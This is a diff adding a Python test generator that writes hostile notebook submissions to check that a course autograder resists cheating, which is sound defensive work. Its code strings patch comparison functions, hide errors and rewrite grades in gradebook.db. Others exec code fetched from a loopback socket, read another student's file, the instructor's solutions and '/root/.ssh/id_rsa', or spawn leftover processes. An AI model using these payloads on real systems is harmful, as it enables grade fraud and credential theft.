@@ -1,0 +1,328 @@
+"""A battery of hostile and broken submissions for one lab, each with the score it deserves.
+
+Every case starts from honest work (the release notebook with some parts
+solved from the instructor's solution) and then breaks or attacks something:
+the notebook's structure (deleted, edited, duplicated, reordered cells, lost
+metadata, invalid JSON), the kernel (infinite loops, memory, ``os._exit``,
+stray processes, stderr), or the grading itself (patched comparisons, hidden
+tracebacks, the gradebook, the network, other people's files). The expected
+score is what the honest part earns; the cheat must add nothing.
+
+    python tests/hostile.py lab02_attention --out /tmp/battery   # writes <student>/<lab>/...
+    python tests/hostile.py lab02_attention --list               # names, expected scores
+
+Network attacks only ever connect to 127.0.0.1 and [::1] (``port``), where the
+test suite listens; grading in the sandbox must make even those unreachable.
+"""
+
+from __future__ import annotations
+
+import argparse
+import ast
+import copy
+import json
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from course_utils.grading import MARKERS, find_root, graded_parts
+
+
+@dataclass
+class Case:
+    """One hostile submission: its files, the score it deserves and what the
+    grading report must mention (lower-case words found in its reason,
+    problems, repairs or flags)."""
+
+    student: str
+    what: str
+    expected: float | None  # None: not graded at all
+    files: dict[str, str]  # path inside <student>/<lab>/ -> content
+    report: list[str] = field(default_factory=list)
+
+
+def _src(cell: dict) -> str:
+    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+
+
+def _gid(cell: dict) -> str | None:
+    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
+
+
+def _is_test(cell: dict) -> bool:
+    meta = cell.get("metadata", {}).get("nbgrader", {})
+    return bool(meta.get("grade")) and cell["cell_type"] == "code"
+
+
+def _answer(cell: dict) -> str:
+    """A solution cell's code without the markers (what a student would have written)."""
+    return "\n".join(line for line in _src(cell).splitlines() if line.strip() not in MARKERS)
+
+
+def _functions(source: str) -> list[str]:
+    return [n.name for n in ast.parse(source).body if isinstance(n, ast.FunctionDef)]
+
+
+def _code(source: str) -> dict:
+    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
+
+
+class Lab:
+    """The release and solution notebooks of a lab, and helpers to fill them in."""
+
+    def __init__(self, release: dict, solution: dict):
+        self.release, self.solution = release, solution
+        self.parts = graded_parts(solution)
+        self.points = [p.points for p in self.parts]
+        self.total = sum(self.points)
+        answers = {_gid(c): c for c in solution["cells"] if _gid(c)}
+        self.answers = {gid: _answer(answers[gid]) for p in self.parts for gid in p.solution_ids}
+
+    def solved(self, parts: list[int]) -> dict:
+        """The release notebook with parts (1-based) solved."""
+        ids = {gid for k in parts for gid in self.parts[k - 1].solution_ids}
+        nb = copy.deepcopy(self.release)
+        for cell in nb["cells"]:
+            if _gid(cell) in ids:
+                cell["source"] = self.answers[_gid(cell)]
+        return nb
+
+    def all(self) -> list[int]:
+        return list(range(1, len(self.parts) + 1))
+
+    def part_functions(self, k: int) -> list[str]:
+        return [f for gid in self.parts[k - 1].solution_ids for f in _functions(self.answers[gid])]
+
+    def append_to_part(self, nb: dict, k: int, code: str) -> dict:
+        """Add ``code`` at the end of part k's last solution cell."""
+        last = self.parts[k - 1].solution_ids[-1]
+        for cell in nb["cells"]:
+            if _gid(cell) == last:
+                cell["source"] = _src(cell) + "\n\n" + code
+        return nb
+
+    def after_imports(self, nb: dict, code: str) -> dict:
+        """Insert a student cell before the first solution cell."""
+        first = next(i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
+        nb["cells"].insert(first, _code(code))
+        return nb
+
+
+def _redefine(functions: list[str], body: str) -> str:
+    """Replace every function in ``functions`` by one with ``body``."""
+    return "\n".join(f"def {f}(*args, **kwargs):\n" + "\n".join("    " + line for line in body.splitlines())
+                     for f in functions)
+
+
+def battery(lab: str, root: str | Path | None = None, *, port: int = 9, marker: str = "hostile-leftover",
+            submitted: str | Path | None = None) -> list[Case]:
+    """The hostile submissions for ``lab`` (at least 15).
+
+    Args:
+        lab: e.g. ``"lab02_attention"``.
+        root: the course root holding ``solutions/`` and ``labs/``.
+        port: loopback port the network attack connects to.
+        marker: a word in the command line of the process a submission leaves behind.
+        submitted: where the honest student ``correct`` is stored (attacked by ``other_student``).
+    """
+    root = find_root(root)
+    nb_name = f"{lab}.ipynb"
+    lab_ = Lab(json.loads((root / "labs" / lab / nb_name).read_text()),
+               json.loads((root / "solutions" / lab / nb_name).read_text()))
+    P, T, n = lab_.points, lab_.total, len(lab_.parts)
+    submitted = Path(submitted or root / "submitted")
+    dump = lambda nb: json.dumps(nb, indent=1)  # noqa: E731
+    cases: list[Case] = []
+
+    def add(student, what, expected, nb, report=(), name=nb_name):
+        cases.append(Case(student, what, expected, {name: nb if isinstance(nb, str) else dump(nb)}, list(report)))
+
+    add("correct", "the instructor's solution", T, lab_.solved(lab_.all()))
+    add("untouched", "the release notebook as handed out", 0, lab_.release)
+    add("partial", "only part 1 solved", P[0], lab_.solved([1]))
+
+    nb = lab_.solved([1])
+    for cell in nb["cells"]:
+        if _is_test(cell):
+            cell["source"] = "pass"
+    add("tests_edited", "part 1 solved, every test cell replaced by `pass`", P[0], nb, ["edited"])
+
+    nb = lab_.solved([1])
+    for cell in nb["cells"]:
+        if _is_test(cell):
+            cell["metadata"]["nbgrader"]["points"] = 100
+    add("points_raised", "part 1 solved, every test worth 100 points in the metadata", P[0], nb, ["points"])
+
+    nb = lab_.solved(lab_.all())
+    nb["cells"] = [c for c in nb["cells"] if not _is_test(c)]
+    add("tests_deleted", "all solved, every test cell deleted", T, nb, ["re-inserted"])
+
+    nb = lab_.solved(lab_.all())
+    for cell in nb["cells"]:
+        cell["metadata"] = {"id": "colab-cell"} if cell["cell_type"] == "code" else {}
+        cell.pop("id", None)
+    nb["metadata"] = {"colab": {"provenance": []}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
+    add("colab_copy", "all solved, copied into a fresh Colab notebook (no nbgrader metadata) and renamed",
+        T, nb, ["metadata", "named"], name=f"Copy of {nb_name}")
+
+    nb = lab_.solved(lab_.all())
+    cells = []
+    for cell in nb["cells"]:
+        meta = cell.get("metadata", {}).get("nbgrader", {})
+        if meta.get("solution"):
+            stub = next(c for c in lab_.release["cells"] if _gid(c) == _gid(cell))
+            cells.append(copy.deepcopy(stub))  # a duplicate left with the template
+            helper = copy.deepcopy(cell)  # ... and the answer split in two cells with the same id
+            helper["source"] = "import math as _math_split  # split off from the cell below"
+            cells += [helper, cell]
+        else:
+            cells.append(cell)
+    nb["cells"] = cells
+    add("duplicated_split", "all solved; each solution cell duplicated (template kept above it) and split",
+        T, nb, ["duplicated or split"])
+
+    nb = lab_.solved(lab_.all())
+    tests = [c for c in nb["cells"] if _is_test(c)]
+    rest = [c for c in nb["cells"] if not _is_test(c)]
+    first_solution = next(i for i, c in enumerate(rest) if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
+    nb["cells"] = rest[:first_solution] + tests[::-1] + rest[first_solution:]
+    add("reordered", "all solved, test cells moved above the solutions in reverse order", T, nb, ["reordered"])
+
+    loop = "import time\nwhile True:  # sleeps, so that the battery burns no CPU while it waits\n    time.sleep(0.5)"
+    nb = lab_.append_to_part(lab_.solved(lab_.all()), n, _redefine(lab_.part_functions(n), loop))
+    add("infinite_loop", f"all solved, but part {n}'s functions loop forever", T - P[-1], nb, ["interrupted"])
+
+    body = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n" + loop
+    nb = lab_.append_to_part(lab_.solved(lab_.all()), 2, _redefine(lab_.part_functions(2), body))
+    add("unstoppable_loop", "all solved, but part 2's functions ignore interrupts and loop forever",
+        P[0], nb, ["timeout", "not run"])
+
+    body = ("hoard = []\nfor _ in range(40):  # 4 GB at most, even without a limit\n"
+            "    hoard.append(b'\\x01' * (100 * 2**20))\nreturn hoard")
+    nb = lab_.append_to_part(lab_.solved(lab_.all()), n, _redefine(lab_.part_functions(n), body))
+    add("memory_bomb", f"all solved, but part {n}'s functions allocate gigabytes", T - P[-1], nb, ["memory"])
+
+    nb = lab_.append_to_part(lab_.solved(lab_.all()), 2, _redefine(lab_.part_functions(2), "import os\nos._exit(0)"))
+    add("os_exit", "all solved, but part 2's functions call os._exit(0)", P[0], nb, ["kernel died", "not run"])
+
+    nb = lab_.solved(lab_.all())
+    for cell in nb["cells"]:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            cell["source"] = "import sys\nprint('debug output', file=sys.stderr)\n" + _src(cell)
+    wrap = "\n".join(f"_quiet_{f} = {f}\ndef {f}(*args, **kwargs):\n    import sys\n"
+                     f"    print('a warning', file=sys.stderr)\n    return _quiet_{f}(*args, **kwargs)"
+                     for f in lab_.part_functions(n))
+    nb = lab_.append_to_part(nb, n, wrap)
+    add("stderr", f"all solved; solution cells write to stderr, and part {n}'s functions too when called",
+        T - P[-1], nb, ["stderr"])
+
+    patch = ("import math, numpy, torch\n"
+             "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
+             "numpy.allclose = lambda *a, **k: True\nnumpy.array_equal = lambda *a, **k: True\n"
+             "numpy.testing.assert_allclose = lambda *a, **k: None\n"
+             "torch.testing.assert_close = lambda *a, **k: None\nmath.isclose = lambda *a, **k: True\n\n"
+             "class Magic:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
+             "    def __lt__(self, other): return True\n    def __le__(self, other): return True\n"
+             "    def __gt__(self, other): return True\n    def __ge__(self, other): return True\n"
+             "    def __getattr__(self, name): return Magic()\n    def __call__(self, *a, **k): return Magic()\n"
+             "    def __bool__(self): return True\n    def __float__(self): return 0.0\n"
+             "    def __sub__(self, o): return Magic()\n"
+             "    __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = __abs__ = __neg__ = __sub__\n")
+    nb = lab_.after_imports(lab_.solved([1]), patch)
+    for k in range(2, n + 1):
+        nb = lab_.append_to_part(nb, k, _redefine(lab_.part_functions(k), "return Magic()"))
+    add("monkeypatch", "part 1 solved; allclose/equal/isclose patched, other parts return objects equal to anything",
+        P[0], nb, ["comparison patching"])
+
+    hide = ("import textwrap\nfrom IPython import get_ipython\n_ip = get_ipython()\n"
+            "_ip.showtraceback = lambda *a, **k: None\n_run_cell = _ip.run_cell\n"
+            "def _forgiving(raw_cell, *args, **kwargs):\n"
+            "    wrapped = 'try:\\n' + textwrap.indent(raw_cell, '    ') + '\\n    pass\\nexcept BaseException:\\n    pass\\n'\n"
+            "    return _run_cell(wrapped, *args, **kwargs)\n_ip.run_cell = _forgiving\n")
+    add("hides_errors", "nothing solved; tracebacks hidden and every cell wrapped in try/except "
+        "(plain nbgrader gives full marks)", 0, lab_.after_imports(lab_.solved([]), hide),
+        ["did not run to its end", "tampering"])
+
+    steal = (f"import glob, os, sqlite3\nroot = {str(root)!r}\n"
+             "found = glob.glob(os.path.join(root, '**', 'gradebook.db'), recursive=True)\n"
+             "found += [p for up in range(1, 8) for p in glob.glob(os.path.join(*['..'] * up, 'gradebook.db'))]\n"
+             "for path in found:\n    try:\n        con = sqlite3.connect(path)\n"
+             "        print(len(con.execute('SELECT source FROM source_cell').fetchall()), 'hidden cells read')\n"
+             "        con.execute('UPDATE grade SET auto_score = 1000, manual_score = 1000')\n"
+             "        con.execute(\"UPDATE grade_cells SET max_score = 1000\")\n        con.commit()\n"
+             "    except Exception as e:\n        print('no luck with', path, e)\n"
+             "print('gradebooks found:', found)\n")
+    add("gradebook", "part 1 solved; looks for gradebook.db to read hidden tests and raise every grade",
+        P[0], lab_.after_imports(lab_.solved([1]), steal), ["the gradebook"])
+
+    answers = "\n\n".join(lab_.answers[g] for p in lab_.parts[1:] for g in p.solution_ids)
+    net = (f"import socket\nfor family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
+           "    try:\n        s = socket.socket(family, socket.SOCK_STREAM)\n        s.settimeout(5)\n"
+           f"        s.connect((address, {int(port)}))\n        s.sendall(b'LEAK')\n"
+           "        code = b''\n        while chunk := s.recv(65536):\n            code += chunk\n"
+           "        exec(code.decode())  # answers from a helper\n        break\n"
+           "    except OSError as e:\n        print('no network:', e)\n")
+    add("network", "part 1 solved; fetches the other answers from a server on 127.0.0.1 / [::1]",
+        P[0], lab_.after_imports(lab_.solved([1]), net), ["network access"])
+
+    other = submitted / "correct" / lab / nb_name
+    copy_code = (f"import json\ntry:\n    _nb = json.load(open({str(other)!r}))\n"
+                 "    for _cell in _nb['cells']:\n        if _cell['cell_type'] == 'code' and 'def ' in ''.join(_cell['source']):\n"
+                 "            try:\n                exec(''.join(_cell['source']))\n            except Exception:\n                pass\n"
+                 "except OSError as e:\n    print('cannot read it:', e)\n")
+    nb = lab_.solved([])
+    for k in range(1, n + 1):
+        nb = lab_.append_to_part(nb, k, copy_code)
+    add("other_student", "nothing solved; executes the answers of the student `correct` from their file",
+        0, nb, ["files outside the submission"])
+
+    source = root / "solutions" / lab / nb_name
+    key = (f"import json, os\nfor _p in ({str(source)!r}, os.path.expanduser('~/.bash_history'), '/root/.ssh/id_rsa'):\n"
+           "    try:\n        _text = open(_p).read()\n    except OSError as e:\n        print('cannot read', _p, e)\n"
+           "        continue\n    if _p.endswith('.ipynb'):\n        for _cell in json.loads(_text)['cells']:\n"
+           "            if 'BEGIN SOLUTION' in ''.join(_cell['source']):\n"
+           "                exec(''.join(_cell['source']))\n")
+    nb = lab_.solved([])
+    for k in range(1, n + 1):
+        nb = lab_.append_to_part(nb, k, key)
+    add("instructor_files", "nothing solved; executes the instructor's solutions/ notebook and reads the home folder",
+        0, nb, ["files outside the submission"])
+
+    spawn = (f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)', "
+             f"{marker!r}], start_new_session=True)\n")
+    add("leftover_process", "all solved; starts a detached process that outlives its kernel",
+        T, lab_.after_imports(lab_.solved(lab_.all()), spawn), ["process control"])
+
+    add("invalid_json", "all solved, but the file was truncated", None,
+        dump(lab_.solved(lab_.all()))[:-300], ["invalid json"])
+    return cases
+
+
+def write(cases: list[Case], submitted: str | Path, lab: str) -> None:
+    """Write each case as ``submitted/<student>/<lab>/<file>``."""
+    for case in cases:
+        folder = Path(submitted) / case.student / lab
+        folder.mkdir(parents=True, exist_ok=True)
+        for name, text in case.files.items():
+            (folder / name).write_text(text)
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("lab")
+    ap.add_argument("--out", help="write the battery into this submitted/ folder")
+    ap.add_argument("--port", type=int, default=9, help="loopback port of the network attack")
+    ap.add_argument("--list", action="store_true", help="print the cases and their expected scores")
+    args = ap.parse_args(argv)
+    cases = battery(args.lab, port=args.port, submitted=args.out)
+    if args.out:
+        write(cases, args.out, args.lab)
+        (Path(args.out) / f"expected_{args.lab}.json").write_text(json.dumps(
+            {c.student: {"expected": c.expected, "what": c.what, "report": c.report} for c in cases}, indent=1))
+    for c in cases:
+        print(f"{c.student:18s} {'-' if c.expected is None else f'{c.expected:g}':>5s}  {c.what}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
